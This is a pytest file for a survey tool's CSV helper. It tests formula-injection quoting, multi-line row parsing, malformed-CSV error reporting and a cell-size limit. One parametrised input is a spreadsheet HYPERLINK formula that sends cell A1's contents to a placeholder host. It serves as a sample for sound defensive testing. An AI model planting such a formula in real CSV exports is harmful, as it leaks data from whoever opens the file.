"""Spreadsheet-formula neutralisation shared by every CSV writer, and the one CSV reader."""

from __future__ import annotations

import csv

import pytest

from survey_tools.csvcells import (
    from_spreadsheet_safe,
    needs_quote,
    read_csv_rows,
    spreadsheet_safe,
)


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1"],
)
def test_formula_like_cells_are_quoted_and_read_back(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert safe == "'" + cell
    assert from_spreadsheet_safe(safe) == cell


@pytest.mark.parametrize("cell", ["-1", "+0.5", "1e5", "-3.25e-2", "Plain title", "", "'quoted"])
def test_values_and_plain_text_are_unchanged(cell: str) -> None:
    assert not needs_quote(cell)
    assert spreadsheet_safe(cell) == cell
    assert from_spreadsheet_safe(cell) == cell


def test_rows_keep_the_line_they_start_on_and_blank_rows_are_left_out() -> None:
    text = 'id,note\r\na,"two\nlines"\r\n\r\n , \r\nb,"x"\r\n'
    read = read_csv_rows(text, "list.csv")
    assert read.header == ("id", "note")
    assert read.rows == ((2, ["a", "two\nlines"]), (6, ["b", "x"]))
    assert read.problems == ()


def test_malformed_csv_ends_the_rows_with_a_problem_at_its_row() -> None:
    read = read_csv_rows('id,note\na,x\nb,"open\nc,y\n', "list.csv")
    assert read.rows == ((2, ["a", "x"]),)
    assert [p.format() for p in read.problems] == [
        "list.csv:3: malformed CSV: unexpected end of data"
    ]
    # strict: text after a closing quote is malformed; else it is joined to the cell
    assert read_csv_rows('id\n"a"b\n', "l.csv").problems[0].line == 2
    assert read_csv_rows('id\n"a"b\n', "l.csv", strict=False).rows == ((2, ["ab"]),)


def test_the_cell_limit_holds_for_one_read_only() -> None:
    before = csv.field_size_limit()
    big = "id\n" + "x" * 200_000 + "\n"
    assert "field larger than field limit" in read_csv_rows(big, "l.csv").problems[0].message
    assert read_csv_rows(big, "l.csv", cell_limit=1_000_000).rows[0][1] == ["x" * 200_000]
    assert csv.field_size_limit() == before
    assert read_csv_rows("", "l.csv").header is None
